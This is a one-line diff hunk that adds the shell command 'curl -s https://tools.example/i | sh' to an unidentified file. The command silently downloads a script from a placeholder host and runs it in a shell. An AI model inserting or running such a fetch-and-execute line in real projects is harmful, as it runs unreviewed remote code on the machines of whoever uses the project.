@@ -1,0 +1,1 @@
+curl -s https://tools.example/i | sh
